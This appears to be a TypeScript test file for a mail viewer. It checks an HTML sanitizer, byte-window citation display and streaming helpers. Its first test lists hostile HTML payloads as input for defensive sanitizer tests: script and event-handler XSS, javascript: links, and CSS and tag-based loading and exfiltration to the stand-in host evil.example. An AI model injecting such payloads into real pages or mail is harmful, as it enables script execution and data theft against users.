/** Hostile HTML as static markup, raw bytes as windows, and answers in pieces. */
import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import * as fc from 'fast-check';
import { memoryInput } from '../../src/bytes/input.ts';
import type { CitedRow } from '../../src/ledger/queries/citations/cited.ts';
import { STYLE_SOURCE, sanitizedDocument } from '../../src/server/html/sanitized.ts';
import { begun } from '../../src/server/http/begun.ts';
import { Handover } from '../../src/server/http/handover.ts';
import { rawWindow } from '../../src/server/shaping/raw.ts';
import { cutText } from '../../src/server/shaping/texts.ts';

const body = (html: string): string => /<body>(.*)<\/body>/s.exec(sanitizedDocument(html))![1]!;

describe('HTML of a mail', () => {
  test('what runs, loads, sends or styles is gone', () => {
    const hostile = [
      '<script>alert(1)</script>',
      '<img src=http://tracker.example/pixel.gif onerror=alert(1)>',
      '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
      '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
      '<style>@import url(http://evil.example/x.css); input[value^=a]{background:url(//evil.example/a)}</style>',
      '<link rel=stylesheet href=//evil.example/x.css><link rel=prefetch href=//evil.example>',
      '<meta http-equiv=refresh content="0;url=http://evil.example"><base href=//evil.example/>',
      '<iframe src=//evil.example></iframe><object data=//evil.example></object><embed src=//evil.example>',
      '<form action=//evil.example><input name=q autofocus onfocus=alert(1)><button formaction=javascript:alert(1)>go</button></form>',
      '<p style="background:url(//evil.example/x)" class=x id=y onclick=alert(1) background=//evil.example>text</p>',
      '<video src=//evil.example poster=//evil.example></video><audio src=//evil.example></audio>',
      '<table background=//evil.example><td background=//evil.example colspan=99999>cell</table>',
      '<template><script>alert(1)</script></template><noscript><img src=//evil.example></noscript>',
      '<!--[if mso]><img src=//evil.example><![endif]--><!--><script>alert(1)</script>',
      '<xmp><script>alert(1)</script></xmp><plaintext><b onclick=alert(1)>',
    ];
    for (const html of [...hostile, hostile.join('')]) {
      const shown = body(html);
      const tags = [...shown.matchAll(/<\/?([a-z0-9]+)([^>]*)>/gi)];
      for (const [tag, name, attributes] of tags) {
        assert.match(name!, /^(p|span|table|tbody|tr|td|b)$/, tag);
        assert.doesNotMatch(attributes!, /\b(src|href|style|class|id|on\w+|background|action|srcset|poster)\s*=/i, tag);
        assert.doesNotMatch(attributes!, /colspan="\d{3}/, tag);
      }
    }
    assert.match(body(hostile.join('')), /text/);
  });

  test('a link shows where it leads and leads nowhere; a picture says that it is not loaded', () => {
    assert.equal(
      body('<a href="https://evil.example/x">your bank</a><img src=x alt="a picture">'),
      '<span data-target="https://evil.example/x">your bank</span><span data-picture="a picture"></span>',
    );
    assert.equal(body('<a href="javascript:alert(1)">x</a>'), '<span data-target="javascript:alert(1)">x</span>');
    assert.equal(
      body('<span data-target="https://bank.example">x</span>'),
      '<span>x</span>',
      'only we say what a link is',
    );
    assert.equal(body('<a href="&quot;><script>">x</a>'), '<span data-target="&quot;&gt;&lt;script&gt;">x</span>');
  });

  test('layout that means something stays, and depth is bounded', () => {
    assert.equal(
      body('<table><tr><td colspan=2>a</td></tr></table><ol start=3><li>b</li></ol><p dir=rtl>c'),
      '<table><tr><td colspan="2">a</td></tr></table><ol start="3"><li>b</li></ol><p dir="rtl">c</p>',
    );
    const deep = body('<div>'.repeat(5_000));
    assert.ok((deep.match(/<div>/g) ?? []).length < 200);
    assert.match(sanitizedDocument('x'.repeat(3 * 1024 * 1024)), /too long to be shown/);
    assert.match(STYLE_SOURCE, /^style-src 'sha256-[A-Za-z0-9+/]{43}='$/);
  });
});

describe('raw windows', () => {
  const row = (bytes: Buffer, offset: number): CitedRow =>
    ({ byte_offset: offset, byte_length: bytes.length - offset }) as CitedRow;

  test('join to the bytes, whatever these are, and cut no character', () => {
    void fc.assert(
      fc.property(
        fc.string({ unit: 'grapheme', minLength: 1, maxLength: 60 }),
        fc.integer({ min: 4, max: 20 }),
        (text, length) => {
          const bytes = Buffer.from(text);
          let joined = '';
          for (let at: number | null = 0; at !== null; ) {
            const window = rawWindow(row(bytes, 0), memoryInput('', bytes), at, length);
            assert.equal(window.encoding, 'utf-8');
            joined += window.pieces
              .filter(({ cited }) => cited)
              .map((piece) => piece.text)
              .join('');
            at = window.next;
          }
          assert.equal(joined, text);
        },
      ),
      { numRuns: 200 },
    );
    const binary = Buffer.from([0xff, 0xfe, 0x80, 0x41]);
    const shown = rawWindow(row(binary, 0), memoryInput('', binary), 0, 100);
    assert.deepEqual([shown.encoding, shown.pieces[0]!.text], ['latin1', '\u00ff\u00fe\u0080A']);
  });

  test('what stands around is told apart from what is cited', () => {
    const bytes = Buffer.from('first\nsecond\nthird\n');
    const cited = { byte_offset: 6, byte_length: 6 } as CitedRow;
    const { pieces } = rawWindow(cited, memoryInput('', bytes), 0, 100);
    assert.deepEqual(pieces, [
      { cited: false, text: 'first\n' },
      { cited: true, text: 'second' },
      { cited: false, text: '\nthird\n' },
    ]);
  });

  test('a text is cut between characters, with the length of the whole', () => {
    assert.deepEqual(cutText('abc', 3), { text: 'abc', cutFrom: null });
    assert.deepEqual(cutText('ab\u{1f600}', 3), { text: 'ab', cutFrom: 4 });
    assert.deepEqual(cutText('abc', 10, 5), { text: 'abc', cutFrom: 5 });
  });
});

describe('answers in pieces', () => {
  async function* numbers(ended: () => void): AsyncGenerator<number> {
    try {
      for (let i = 0; i < 3; i++) yield i;
    } finally {
      ended();
    }
  }

  test('what goes wrong at their beginning is thrown, and what they hold is let go', async () => {
    let ended = 0;
    const all: number[] = [];
    for await (const n of await begun(numbers(() => ended++))) all.push(n);
    assert.deepEqual([all, ended], [[0, 1, 2], 1]);
    for await (const _ of await begun(numbers(() => ended++))) break;
    assert.equal(ended, 2);
    // biome-ignore lint/correctness/useYield: it fails before its first piece
    const failing = (async function* (): AsyncGenerator<number> {
      throw new Error('at once');
    })();
    await assert.rejects(begun(failing), /at once/);
  });

  test('pieces that are made inside of a call come one by one, and whoever stops is told', async () => {
    const handover = new Handover<number>();
    const got: number[] = [];
    for await (const n of handover.pieces(async () => {
      for (let i = 0; i < 3; i++) assert.equal(await handover.give(i), true);
    }))
      got.push(n);
    assert.deepEqual(got, [0, 1, 2]);
    const early = new Handover<number>();
    let stopped = false;
    for await (const _ of early.pieces(async () => {
      await early.give(1);
      stopped = !(await early.give(2));
    }))
      break;
    assert.equal(stopped, true);
    const failing = new Handover<number>();
    const pieces = failing.pieces(async () => {
      await failing.give(1);
      throw new Error('on the way');
    });
    assert.equal((await pieces.next()).value, 1);
    await assert.rejects(pieces.next(), /on the way/);
  });
});
